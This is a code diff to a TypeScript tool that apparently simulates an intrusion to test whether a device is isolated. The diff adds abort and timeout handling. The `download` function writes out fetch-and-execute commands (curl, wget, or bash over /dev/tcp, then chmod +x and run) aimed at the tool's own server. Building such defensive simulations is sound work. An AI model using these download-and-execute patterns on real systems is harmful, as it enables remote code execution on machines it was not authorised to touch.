@@ -15,10 +15,14 @@ export type Attack = {
   /** A POSIX shell for the payload. */
   readonly interpreter: string;
   readonly onStep: (text: string) => void;
+  /** Ends it early. */
+  readonly signal?: AbortSignal | undefined;
 };
 
 /** How long the whole look-alike may take, milliseconds. */
 const LIMIT_MS = 20_000;
+/** How long its download may take, seconds: an isolated device answers nothing. */
+const REACH_S = 5;
 
 /**
  * Runs the look-alike and undoes it. Resolves with what the listener heard.
@@ -40,14 +44,19 @@ export async function attack(of: Attack): Promise<{ heard: string }> {
     const url = { host: of.host, port: server.port };
     of.onStep(`download ${payload} from our own web server and run it (T1105, T1059)`);
     const intruder = [of.interpreter, "-c", `${download(url, payload)} && chmod +x ${payload} && ${payload}`];
-    const child = Bun.spawn([...of.onDevice(intruder)], { stdin: "ignore", stdout: "pipe", stderr: "pipe", timeout: LIMIT_MS });
+    const child = Bun.spawn([...of.onDevice(intruder)], { stdin: "ignore", stdout: "pipe", stderr: "pipe", detached: true });
+    using _late = endGroup(child.pid, of.signal);
     for await (const line of lines(child.stdout)) of.onStep(line);
     const stderr = await new Response(child.stderr).text();
-    if ((await child.exited) !== 0)
+    const code = await child.exited;
+    if (of.signal?.aborted) throw new BadDemo("the look-alike was interrupted", "nothing: what it wrote is gone");
+    if (code !== 0)
       throw new BadDemo(
         `the look-alike stopped early: ${stderr.trim().slice(0, 300) || "no reason given"}`,
-        "is the device isolated? `picket release` it first",
+        "is the device isolated? Release it first: picket release",
       );
+    // The shell has ended; what it said may still be on its way.
+    for (let turn = 0; !heard && turn < 40; turn++) await Bun.sleep(25);
     return { heard };
   } finally {
     rmSync(cron, { force: true });
@@ -56,10 +65,30 @@ export async function attack(of: Attack): Promise<{ heard: string }> {
   }
 }
 
+/** Ends a process group when time is up or `signal` aborts: whoever waits for a device that was cut off in between holds its output open. */
+function endGroup(pid: number, signal: AbortSignal | undefined): Disposable {
+  const end = () => {
+    try {
+      process.kill(-pid, "SIGKILL");
+    } catch {
+      // It has ended by itself.
+    }
+  };
+  const late = setTimeout(end, LIMIT_MS);
+  signal?.addEventListener("abort", end, { once: true });
+  if (signal?.aborted) end();
+  return {
+    [Symbol.dispose]() {
+      clearTimeout(late);
+      signal?.removeEventListener("abort", end);
+    },
+  };
+}
+
 /** The first of curl, wget and bash that is here; all three end in the same file. */
 function download(url: { host: string; port: number }, to: string): string {
-  if (Bun.which("curl")) return `curl -s -o ${to} http://${url.host}:${url.port}/update`;
-  if (Bun.which("wget")) return `wget -q -O ${to} http://${url.host}:${url.port}/update`;
+  if (Bun.which("curl")) return `curl -s -m ${REACH_S} -o ${to} http://${url.host}:${url.port}/update`;
+  if (Bun.which("wget")) return `wget -q -T ${REACH_S} -t 1 -O ${to} http://${url.host}:${url.port}/update`;
   return `bash -c 'exec 3<>/dev/tcp/${url.host}/${url.port}; printf "GET /update HTTP/1.0\\r\\n\\r\\n" >&3; while IFS= read -r line && [ "$line" != "$(printf "\\r")" ]; do :; done <&3; cat <&3 > ${to}'`;
 }
 
